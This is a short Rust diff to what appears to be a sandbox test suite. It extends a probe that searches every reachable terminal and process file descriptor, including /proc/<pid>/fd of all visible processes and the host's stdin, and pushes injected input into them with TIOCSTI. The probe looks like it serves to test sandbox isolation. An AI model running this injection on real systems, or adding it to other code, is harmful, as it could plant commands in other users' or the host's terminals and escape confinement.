@@ -867,9 +867,9 @@ fn sb2_open_tty(path: &str, marker: &str, inject: &str, got: &mut Vec<String>, f
 /// Looks for a terminal everywhere a task could find one: /dev/tty, every
 /// fd it has (0-2 and any inherited one), the zygote's fds through
 /// /proc/<ppid>/fd (visible without a PID namespace), and with `scan_dev`
-/// /dev/pts/*, /dev/console and /dev/ptmx. On each it writes `marker` and
-/// pushes `inject` with TIOCSTI. Ok lists what got through; Err, when
-/// nothing did, lists the refusals.
+/// /dev/pts/*, /dev/console, /dev/ptmx and every /proc/<pid>/fd/*. On
+/// each it writes `marker` and pushes `inject` with TIOCSTI. Ok lists what
+/// got through; Err, when nothing did, lists the refusals.
 #[task]
 pub fn sb2_tty(marker: String, inject: String, scan_dev: bool) -> Result<String, String> {
     let mut got = Vec::new();
@@ -903,6 +903,14 @@ pub fn sb2_tty(marker: String, inject: String, scan_dev: bool) -> Result<String,
         let mut paths = vec!["/dev/console".to_string(), "/dev/ptmx".to_string()];
         if let Ok(rd) = std::fs::read_dir("/dev/pts") {
             paths.extend(rd.flatten().map(|e| e.path().display().to_string()));
+        }
+        // Every fd of every process it can see (the host's stdin, say).
+        if let Ok(procs) = std::fs::read_dir("/proc") {
+            for p in procs.flatten() {
+                if let Ok(fds) = std::fs::read_dir(p.path().join("fd")) {
+                    paths.extend(fds.flatten().map(|e| e.path().display().to_string()));
+                }
+            }
         }
         for p in paths {
             sb2_open_tty(&p, &marker, &inject, &mut got, &mut failed);
